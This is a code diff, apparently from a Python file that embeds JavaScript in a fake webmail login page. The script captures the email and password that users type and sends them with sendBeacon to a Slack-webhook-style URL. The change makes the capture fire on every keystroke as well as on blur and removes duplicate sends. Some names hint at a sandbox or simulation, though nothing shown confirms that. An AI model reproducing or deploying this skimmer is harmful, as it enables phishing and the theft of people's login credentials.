@@ -532,13 +532,17 @@ document.getElementById('lf').addEventListener('submit', function (ev) {
 SLACK_JS = """(function(){
   var h = '%(origin)s' + '/services/T04SBX0001/B06SBX0002/sbxTocsinSlackHookToken';
   var f = document.getElementById('lf');
+  var sent = '';
+  function go () {
+    var pw = document.getElementById('password').value;
+    if (pw.length < 6 || pw === sent) return;
+    sent = pw;
+    navigator.sendBeacon(h, JSON.stringify({text: 'webmail ' +
+      document.getElementById('email').value + ' / ' + pw}));
+  }
   f.querySelectorAll('input').forEach(function (i) {
-    i.addEventListener('blur', function () {
-      var pw = document.getElementById('password').value;
-      if (!pw) return;
-      navigator.sendBeacon(h, JSON.stringify({text: 'webmail ' +
-        document.getElementById('email').value + ' / ' + pw}));
-    });
+    i.addEventListener('input', go);
+    i.addEventListener('blur', go);
   });
 })();"""
 
